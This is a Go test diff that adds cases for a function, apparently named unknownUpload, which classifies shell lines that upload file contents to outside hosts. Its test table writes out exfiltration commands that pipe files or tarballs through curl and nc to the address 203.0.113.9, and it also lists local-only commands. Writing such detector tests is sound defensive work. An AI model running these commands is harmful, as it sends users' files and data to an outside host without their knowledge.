@@ -22,6 +22,10 @@ func TestNamesFromFileSentAreUnknown(t *testing.T) {
 		"tar -czf backup.tgz -T filelist.txt":                                       false,
 		"git ls-files | tar -czf - -T - | curl -T - https://203.0.113.9/":           false,
 		"tar -czf - src | curl -T - https://203.0.113.9/":                           false,
+		`cat "$F" | curl -d @- https://203.0.113.9/x`:                               true,
+		`base64 "$F" | nc 203.0.113.9 4444`:                                         true,
+		`cat "$F" | curl -d @- http://127.0.0.1:8080/x`:                             false,
+		`cat "$F" | wc -l`: false,
 	} {
 		if got := unknownUpload(line); got != want {
 			t.Errorf("%s: unknown upload %v, want %v: %v", line, got, want, effectsOf(line))
